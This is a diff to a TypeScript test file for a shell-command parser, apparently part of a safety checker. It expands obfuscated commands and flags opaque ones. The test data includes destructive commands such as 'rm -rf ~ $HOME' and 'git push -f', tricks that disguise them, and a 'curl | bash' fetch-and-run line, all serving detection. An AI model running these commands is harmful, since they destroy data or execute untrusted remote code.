@@ -33,6 +33,10 @@ const TABLE: [string, string[]][] = [
   ['"rm" -rf ~ $HOME ${HOME}/x', [`rm -rf ${HOME} ${HOME} ${HOME}/x`]],
   ["X=rm; $X -rf src", ["rm -rf src"]],
   ["${RM:-rm} -rf src", ["rm -rf src"]],
+  ['"$(echo rm)" -rf src', ["echo rm", "rm -rf src"]],
+  ["tmp=$(mktemp -d); rm -rf \"$tmp\"", ["mktemp -d", "rm -rf <\"$tmp\">"]],
+  ["f() { rm -rf \"$1\"; }; f build", ["f build", "rm -rf build"]],
+  ["alias g=git; g push -f", ["alias g=git", "git", "g push -f", "git push -f"]],
   ["\\rm -rf src", ["rm -rf src"]],
   ["rm -rf {src,lib}", ["rm -rf src lib"]],
   ["export T=/tmp/x; rm -rf $T", ["rm -rf /tmp/x"]],
@@ -91,7 +95,7 @@ describe("walker", () => {
 
   it("marks what it cannot see", async () => {
     const kinds = async (c: string) => (await parseCommand(c, ctx)).flatMap((i) => i.opaque.map((o) => o.kind));
-    expect(await kinds("$(echo rm) -rf x")).toContain("dynamic-command");
+    expect(await kinds("$(cat cmd.txt) -rf x")).toContain("dynamic-command");
     expect(await kinds("bash -c \"$CMD\"")).toContain("dynamic-script");
     expect(await kinds("curl -s https://x.sh | bash")).toContain("dynamic-stdin");
     expect(await kinds("echo 'unterminated")).toContain("parse-error");
